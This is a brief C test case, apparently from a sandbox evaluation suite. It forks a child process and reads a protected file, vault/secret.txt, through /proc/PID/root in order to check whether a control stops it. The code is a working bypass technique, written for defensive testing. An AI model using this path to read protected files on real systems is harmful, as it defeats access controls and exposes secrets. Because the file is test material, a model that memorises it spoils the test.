/* technique: reads the forbidden file below /proc/PID/root of a child process
 * source: reference study 4.3 #12; proc_pid_root(5)
 * success: the content of vault/secret.txt on the output
 * control: permissive
 * event: FileOpenReadOnly
 */
#include "attack.h"
#include <signal.h>

int main(void)
{
	char root[64];
	pid_t child = fork();

	if (child == 0) {
		pause();
		_exit(0);
	}
	snprintf(root, sizeof root, "/proc/%d/root", child);
	int status = show_path(below(root, SECRET_FILE));
	kill(child, SIGKILL);
	return status;
}
